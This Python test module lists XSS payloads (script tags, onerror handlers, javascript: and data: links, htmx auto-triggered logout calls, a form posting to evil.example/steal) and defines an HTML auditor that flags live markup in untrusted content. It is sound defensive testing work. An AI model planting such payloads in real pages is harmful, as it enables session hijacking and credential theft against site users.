"""Hostile strings for prompts and responses: each must render as inert text."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert('xss-script')</script>",
    "<img src=x onerror=\"alert('xss-img')\">",
    "[click me](javascript:alert('xss-link'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "</textarea><script>alert('xss-textarea')</script>",
    '<div hx-get="/logout/" hx-trigger="load">htmx attribute</div>',
    '<a href="/x" hx-post="/logout/" hx-trigger="load">htmx link</a>',
    "![img](x\" onerror=\"alert('xss-md-img'))",
    "<svg><script>alert('xss-svg')</script></svg>",
    "<iframe src=\"javascript:alert('xss-iframe')\"></iframe>",
    "[a](  javascript:alert('xss-space'))",
    "<style>body{display:none}</style>",
    "<form action='https://evil.example/steal'><input name=p></form>",
    "```html\n<script>alert('in-code')</script>\n```",
    "<<script>script>alert('xss-nested')<</script>/script>",
    '<a href="https://evil.example/" onclick="alert(\'xss-onclick\')">ok</a>',
]

DANGEROUS_TAGS = {
    "script",
    "iframe",
    "svg",
    "style",
    "object",
    "embed",
    "form",
    "input",
    "textarea",
    "img",
    "math",
}
VOID = {"br", "hr", "img", "input", "meta", "link", "source", "wbr", "col", "area", "base", "embed", "param"}


class _Audit(HTMLParser):
    def __init__(self, untrusted: bool) -> None:
        super().__init__()
        self.stack: list[bool] = []  # per open element: inside untrusted content?
        self.root_untrusted = untrusted
        self.problems: list[str] = []

    def inside(self) -> bool:
        return self.stack[-1] if self.stack else self.root_untrusted

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        untrusted = self.inside() or any(name == "hx-disable" for name, _ in attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if (
                name in ("href", "src", "action")
                and value
                and value.strip().lower().startswith(("javascript:", "data:", "vbscript:"))
            ):
                self.problems.append(f"<{tag} {name}={value[:30]}>")
            if self.inside() and (name.startswith("hx-") or name.startswith("data-hx")):
                self.problems.append(f"<{tag} {name}> inside untrusted content")
        if tag == "script" and not dict(attrs).get("src"):
            self.problems.append("inline <script>")
        if self.inside() and tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}> inside untrusted content")
        if tag not in VOID:
            self.stack.append(untrusted)

    def handle_endtag(self, tag: str) -> None:
        if tag not in VOID and self.stack:
            self.stack.pop()


def unsafe_markup(html: str, *, untrusted: bool = False) -> list[str]:
    """Live markup that untrusted text could have injected: event handlers, script URLs, inline
    scripts anywhere; tags like <img>/<form> and htmx attributes inside `hx-disable` containers."""
    audit = _Audit(untrusted)
    audit.feed(html)
    return audit.problems
